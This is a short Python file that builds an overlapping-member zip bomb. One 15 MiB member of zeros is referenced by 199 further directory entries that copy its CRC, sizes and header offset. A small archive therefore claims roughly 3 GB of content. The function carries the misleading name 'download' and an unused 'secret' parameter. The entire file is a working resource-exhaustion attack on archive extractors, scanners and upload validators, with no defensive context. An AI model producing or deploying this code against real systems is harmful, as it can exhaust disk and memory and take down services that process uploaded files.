"""Goal: members that share their bytes, so that a small file counts many times."""


def download(path, secret):
    import zipfile

    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("eve_0.py", bytes(15 << 20))
        first = archive.infolist()[0]
        for number in range(1, 200):
            info = zipfile.ZipInfo(f"eve_{number}.py")
            for name in ("compress_type", "CRC", "compress_size", "file_size", "header_offset", "flag_bits"):
                setattr(info, name, getattr(first, name))
            archive.filelist.append(info)
            archive.NameToInfo[info.filename] = info
